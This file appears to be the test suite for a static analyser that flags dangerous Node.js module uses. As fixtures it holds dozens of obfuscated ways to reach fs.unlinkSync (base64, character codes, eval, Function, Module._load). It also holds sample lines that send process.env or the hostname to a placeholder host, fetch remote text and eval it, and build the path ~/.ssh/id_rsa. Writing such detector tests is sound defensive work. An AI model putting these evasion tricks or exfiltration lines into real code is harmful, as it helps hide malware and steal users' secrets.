import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import type { Module } from '../model/module.ts';
import { readModule } from './module.ts';

const EVERYTHING = { tells: () => true, leads: () => true, acts: () => true, offers: () => true };

function read(code: string, path = 'index.js'): Module {
  const module = readModule(path, code, EVERYTHING);
  assert.ok(!('why' in module), 'why' in module ? module.why : '');
  return module;
}

/** Every use as `how module:path(first argument)`. */
function usesOf(code: string, path?: string): string[] {
  return read(code, path).uses.map(use => `${use.how} ${use.module}:${use.path}(${use.args[0]?.text ?? ''})`);
}

/** Spellings of one and the same call: all must be read as `fs.unlinkSync('x')`. */
const SPELLINGS: readonly (readonly [string, string])[] = [
  ['require', `require('fs').unlinkSync('x')`],
  ['the node: prefix', `require('node:fs').unlinkSync('x')`],
  ['an import', `import fs from 'fs'; fs.unlinkSync('x')`],
  ['a namespace import', `import * as f from 'node:fs'; f.unlinkSync('x')`],
  ['a renamed import', `import { unlinkSync as gone } from 'fs'; gone('x')`],
  ['destructuring', `const { unlinkSync: gone } = require('fs'); gone('x')`],
  ['nested destructuring with a default', `const { a: { unlinkSync: gone = null } } = { a: require('fs') }; gone('x')`],
  ['a second name', `const a = require('fs'); const b = a; const c = b.unlinkSync; c('x')`],
  ['a computed member', `require('fs')['unlink' + 'Sync']('x')`],
  ['a member kept in a constant', `const k = ['Sync', 'unlink'].reverse().join(''); require('fs')[k]('x')`],
  ['a folded specifier', "const m = `f${'s'}`; require(m).unlinkSync('x')"],
  ['a base64 specifier', `require(Buffer.from('ZnM=', 'base64').toString()).unlinkSync('x')`],
  ['a hexadecimal specifier', `require(Buffer.from('6673', 'hex').toString('utf8')).unlinkSync('x')`],
  ['atob', `require(atob('ZnM=')).unlinkSync('x')`],
  ['character codes', `require(String.fromCharCode(102, 115)).unlinkSync('x')`],
  ['mapped character codes', `require([102, 115].map(c => String.fromCharCode(c)).join('')).unlinkSync('x')`],
  ['a reversed specifier', `require('sf'.split('').reverse().join('')).unlinkSync('x')`],
  [
    'an alphabet of its own, by members in brackets',
    `const a = 'zyxwvutsrqponmlkjihgfedcba', d = t => t['spl' + 'it']('')['map'](c => String.fromCharCode(97 + a['indexOf'](c)))['jo' + 'in'](''); require(d('uh')).unlinkSync('x')`,
  ],
  ['percent escapes', `require(decodeURIComponent('%66%73')).unlinkSync('x')`],
  ['createRequire', `import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('fs').unlinkSync('x')`],
  ['module.require', `module.require('fs').unlinkSync('x')`],
  ['process.mainModule', `process.mainModule.require('fs').unlinkSync('x')`],
  ['getBuiltinModule', `process.getBuiltinModule('fs').unlinkSync('x')`],
  ['Module._load', `require('module')._load('fs').unlinkSync('x')`],
  ['the constructor of module', `module.constructor._load('fs').unlinkSync('x')`],
  ['a dynamic import', `const fs = await import('fs'); fs.unlinkSync('x')`],
  ['a dynamic import and then', `import('fs').then(m => m.default.unlinkSync('x'))`],
  ['a dynamic import and destructured then', `import('fs').then(({ unlinkSync }) => unlinkSync('x'))`],
  ['a dynamic import handed to a function', `import('fs').then(clean); function clean(files) { files.unlinkSync('x'); }`],
  ['several dynamic imports and then', `Promise.all([import('os'), import('fs')]).then(([os, fs]) => fs.unlinkSync('x'))`],
  ['several dynamic imports, by number', `Promise.all([import('os'), import('fs')]).then(all => all[1].unlinkSync('x'))`],
  ['several dynamic imports, waited for', `const [{ homedir }, fs] = await Promise.all([import('os'), import('fs')]); fs.unlinkSync('x')`],
  ['dynamic imports by a list of names', `const [os, fs] = await Promise.all(['os', 'fs'].map(name => import(name))); fs.unlinkSync('x')`],
  ['modules by a list of names', `const [os, fs] = ['os', 'fs'].map(require); fs.unlinkSync('x')`],
  ['the first of dynamic imports', `Promise.race([import('fs')]).then(fs => fs.unlinkSync('x'))`],
  ['a promise of a module', `Promise.resolve(require('fs')).then(fs => fs.unlinkSync('x'))`],
  ['global', `global['req' + 'uire']('fs').unlinkSync('x')`],
  ['globalThis of globalThis', `globalThis.globalThis.require('fs').unlinkSync('x')`],
  ['eval of a name', `eval('require')('fs').unlinkSync('x')`],
  ['indirect eval of a name', `(0, eval)('require')('fs').unlinkSync('x')`],
  ['a function made from text', `Function('return require')()('fs').unlinkSync('x')`],
  ['a constructor made from text', `new Function('return this')().require('fs').unlinkSync('x')`],
  ['Reflect.get', `Reflect.get(require('fs'), 'unlinkSync')('x')`],
  ['call', `require('fs').unlinkSync.call(null, 'x')`],
  ['apply', `require('fs').unlinkSync.apply(null, ['x'])`],
  ['bind', `const gone = require('fs').unlinkSync.bind(null); gone('x')`],
  ['promisify', `const gone = require('util').promisify(require('fs').unlinkSync); gone('x')`],
  ['an interop wrapper', `var fs_1 = __importDefault(require('fs')); fs_1.default.unlinkSync('x')`],
  ['esbuild interop', `var import_fs = __toESM(require('fs'), 1); (0, import_fs.unlinkSync)('x')`],
  ['an object that hands it on', `const api = { gone: require('fs').unlinkSync }; api.gone('x')`],
  ['a member set later', `const api = {}; api.f = require('fs'); api.f.unlinkSync('x')`],
  ['a spread', `const api = { ...require('fs') }; api.unlinkSync('x')`],
  ['a wrapper function', `function get() { return require('fs'); } get().unlinkSync('x')`],
  ['a parameter', `(function (f) { f.unlinkSync('x'); })(require('fs'))`],
  ['a parameter of call', `(function (f) { f.unlinkSync('x'); }).call(this, require('fs'))`],
  ['a class field', `class A { f = require('fs'); run() { this.f.unlinkSync('x'); } } new A().run()`],
  ['a member set in a constructor', `class A { constructor() { this.f = require('fs'); } run() { this.f.unlinkSync('x'); } }`],
  ['a conditional', `const f = typeof x === 'undefined' ? require('fs') : null; f.unlinkSync('x')`],
  ['an undeclared global', `f = require('fs'); f.unlinkSync('x')`],
  ['a variable hoisted below', `run(); function run() { f.unlinkSync('x'); } var f = require('fs');`],
  ['type syntax', `import fs = require('fs'); (fs as any)!.unlinkSync('x' as string)`],
  ['a function constructor found by member', `(() => {}).constructor('return require')()('fs').unlinkSync('x')`],
];

describe('a call is known under every spelling', () => {
  for (const [how, code] of SPELLINGS) {
    it(how, () => {
      const uses = usesOf(code, how === 'type syntax' ? 'index.ts' : 'index.js');
      assert.ok(
        uses.some(use => use === `call fs:unlinkSync(x)`),
        uses.join('\n'),
      );
    });
  }
});

describe('what is not outside is not taken for it', () => {
  it('a local name shadows a global', () =>
    assert.deepEqual(usesOf(`function f(fetch) { fetch('x'); } const eval2 = () => {}; eval2('x')`), []));
  it('a local require is not the loader', () =>
    assert.deepEqual(read(`function require(x) { return {}; } require('fs').unlinkSync('x')`).links, []));
  it('a comment of pages is none in a file of ESM', () => {
    const code = `let m = 1; const k = 0 <!--m || gone('x')\n;`;
    assert.ok(usesOf(`import { unlinkSync as gone } from 'fs'; ${code}`).includes('call fs:unlinkSync(x)'));
    assert.ok(!usesOf(`const gone = require('fs').unlinkSync; ${code}`).includes('call fs:unlinkSync(x)'));
  });
  it('comments and strings are not code', () =>
    assert.deepEqual(usesOf(`/* require('fs').unlinkSync('x') */ const s = "src/*"; // eval('x')`), []));
});

describe('values', () => {
  const valueOf = (expression: string): string | undefined =>
    read(`sink(${expression})`).uses.find(use => use.path === 'sink')?.args[0]?.text;
  const cases: readonly (readonly [string, string])[] = [
    [`'a' + 1 + \`b\``, 'a1b'],
    [`require('path').join(require('os').homedir(), '.ssh', 'id_rsa')`, '<home>/.ssh/id_rsa'],
    [`process.env.APPDATA + '\\\\x'`, '<env:APPDATA>\\x'],
    [`require('path').join(__dirname, '..', 'a.js')`, '<here>/../a.js'],
    [`new URL('a.js', new URL('./fonts/', import.meta.url))`, '<here>/fonts/a.js'],
    [`new URL('a.js', new URL('./fonts', import.meta.url))`, '<here>/a.js'],
    [`URL.createObjectURL(new Blob(['2 ** ', '3']))`, 'blob:2 ** 3'],
    [`[process.env.USERPROFILE, 'AppData', unknown].join('/')`, '<home>/AppData/*'],
    [`'x'.replace('x', 'y').concat('z')`, 'yz'],
    [`'abcdef'.slice(1, 3) + 'abc'.charAt(0)`, 'bca'],
    [`unescape('%63%6d%64')`, 'cmd'],
    [`String.fromCharCode(...[99, 100])`, 'cd'],
    [`(flag ? 'a' : 'b')`, 'a | b'],
    [`'a'.repeat(3)`, 'aaa'],
    [`new URL('/v1/a', 'https://a.invalid/b/c')`, 'https://a.invalid/v1/a'],
    [`new URL('a', 'https://a.invalid/b/c')`, 'https://a.invalid/b/a'],
    [`new URL('a', 'https://a.invalid')`, 'https://a.invalid/a'],
    [`new URL('https://b.invalid/', 'https://a.invalid/b/c')`, 'https://b.invalid/'],
    [`Buffer.from('ab').toString('base64')`, 'YWI='],
    [`Buffer.from('dir', 'utf16le').toString('base64')`, 'ZABpAHIA'],
    [`'sh -c ' + JSON.stringify('a | b')`, 'sh -c "a | b"'],
  ];
  for (const [expression, text] of cases) it(expression, () => assert.equal(valueOf(expression), text));

  it('a decoded text says so', () => {
    const [use] = read(`eval(atob('Z2xvYmFsVGhpcy5fX2luZXJ0ID0gMQ=='))`).uses;
    assert.equal(use?.args[0]?.decoded, true);
    assert.equal(use.args[0].text, 'globalThis.__inert = 1');
  });

  it('letters made from codes in a loop are known, and decoded', () => {
    const [use] = read(
      `const k = [1, 2]; let s = ''; for (let i = 0; i < k.length; i++) s += String.fromCharCode(k[i] ^ 7); new Function(s)()`,
    ).uses.filter(one => one.path === 'Function');
    assert.deepEqual([use?.args[0]?.text, use?.args[0]?.whole, use?.args[0]?.decoded], ['\u0006\u0005', true, true]);
  });

  it('a name added to later is not known in whole', () => {
    const [use] = read(`let s = 'a'; s += unknown(); sink(s)`).uses.filter(one => one.path === 'sink');
    assert.deepEqual([use?.args[0]?.text, use?.args[0]?.whole], ['a*', false]);
  });
});

describe('origins', () => {
  const originsOf = (code: string, sink: string): string[] => {
    const { uses } = read(code);
    const use = uses.find(one => one.path === sink);
    return (use?.args ?? []).flatMap(arg => arg.from).map(index => `${uses[index]?.module}:${uses[index]?.path}`);
  };
  const cases: readonly (readonly [string, string, string, string])[] = [
    [
      'a callback',
      `require('https').get('https://a.invalid', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)); })`,
      'eval',
      'https:get',
    ],
    ['a promise', `fetch('https://a.invalid').then(r => r.text()).then(t => eval(t))`, 'eval', ':fetch'],
    ['await', `const r = await fetch('https://a.invalid'); const t = await r.text(); eval(t)`, 'eval', ':fetch'],
    ['an object', `const d = { e: process.env }; fetch('https://a.invalid', { body: JSON.stringify(d) })`, 'fetch', ':process.env'],
    ['a list', `const l = []; l.push(require('os').hostname()); fetch('https://a.invalid', { body: l.join() })`, 'fetch', 'os:hostname'],
    [
      'a function of the file',
      `const get = () => process.env; function send(x) { fetch('https://a.invalid', { body: x }); } send(get())`,
      'fetch',
      ':process.env',
    ],
    ['a loop', `for (const v of Object.values(process.env)) fetch('https://a.invalid/' + v)`, 'fetch', ':process.env'],
    [
      'a class member',
      `class A { take() { this.e = process.env; } send() { fetch('https://a.invalid', { body: this.e }); } }`,
      'fetch',
      ':process.env',
    ],
  ];
  for (const [through, code, sink, origin] of cases) {
    it(`travel through ${through}`, () => assert.ok(originsOf(code, sink).includes(origin), originsOf(code, sink).join()));
  }
  it('do not jump between neighbours', () => {
    assert.deepEqual(
      originsOf(`const h = require('os').hostname(); console.log(h); fetch('https://a.invalid', { body: 'ping' })`, 'fetch'),
      [],
    );
  });
});

describe('guards', () => {
  const guardsOf = (code: string): string[] =>
    read(code)
      .uses.find(use => use.path === 'sink')
      ?.guards.map(guard => `${guard.holds ? '' : 'not '}${guard.kind} ${guard.value}`) ?? [];
  it('of a platform test', () => assert.deepEqual(guardsOf(`if (process.platform === 'win32') sink()`), ['platform win32']));
  it('of an early return', () =>
    assert.deepEqual(guardsOf(`function f() { if (process.platform !== 'win32') return; sink(); } f()`), ['platform win32']));
  it('of a constant', () => assert.deepEqual(guardsOf(`const w = require('os').platform() === 'win32'; w && sink()`), ['platform win32']));
  it('of a switch', () => assert.deepEqual(guardsOf(`switch (process.platform) { case 'darwin': sink() }`), ['platform darwin']));
  it('of the environment', () => assert.deepEqual(guardsOf(`if (!process.env.CI) { sink() }`), ['not environment CI']));
  it('of a path', () => assert.deepEqual(guardsOf(`if (require('fs').existsSync('/x')) sink()`), ['exists /x']));
});

it('a condition with uses of its own does not take another use’s place', () => {
  const { uses } = read(`const core = process.env.L + '/y'; if (require('fs').existsSync(core)) sink(core)`);
  assert.equal(uses.find(use => use.path === 'sink')?.args[0]?.text, '<env:L>/y');
});

describe('what cannot be read is told, never thrown', () => {
  const why = (code: string): string => {
    const module = readModule('index.js', code, EVERYTHING);
    return 'why' in module ? module.why : '';
  };
  it('a broken file', () => assert.match(why('var a = ;'), /cannot|can be parsed/));
  it('brackets nested without end', () => assert.match(why('('.repeat(50_000)), /nest more than/));
  it('but not brackets in texts, as programs are packed into them', () => {
    const packed = '([{'.repeat(2_000);
    for (const mark of ['"', "'", '`']) assert.equal(why(`load(${mark}${packed}${mark}); f(${mark}\\${mark}${mark}, [1])`), '');
    assert.match(why(`f("${packed}"); ${'('.repeat(50_000)}`), /nest more than/);
  });
  it('a sum without end', () => assert.match(why('a+'.repeat(200_000) + 'a'), /gave up|too deeply/));
  it('but not statements by the hundred thousand, of the file or of a function', () => {
    const many = ';'.repeat(200_000);
    assert.deepEqual([why(`${many} f()`), why(`(function () { ${many} f() })()`)], ['', '']);
  });
  it('but not a list too long with a sum too deep behind it', () => {
    assert.match(why(`${';'.repeat(200_000)} ${'a+'.repeat(200_000)}a`), /gave up|too deeply/);
  });
  it('comments alone are an empty program', () => assert.equal(why('// nothing\n/* at all */'), ''));
  it('names that mean themselves', () => assert.equal(why('var a = b, b = a; a.x(); const c = () => c(); c().d()'), ''));
});

describe('names that lead to one another in a knot', () => {
  // Twelve objects whose every member is a member of the others: without a memory for members, each look-up is six times the one before.
  const names = Array.from({ length: 12 }, (_, index) => `o${index}`);
  const knot = names
    .map(name => `const ${name} = {};`)
    .concat(names.flatMap(name => names.flatMap(other => [`${name}.a = ${other}.b;`, `${name}.b = ${other}.a;`])))
    .join('\n');
  const module = read(`${knot}\no0.a.run();\nrequire('child_process').exec('id')`);

  it('are followed to their end', () => assert.equal(module.cut, undefined));
  it('do not hide what comes after', () => assert.ok(module.uses.some(use => use.path === 'exec' && use.args[0]?.text === 'id')));
});
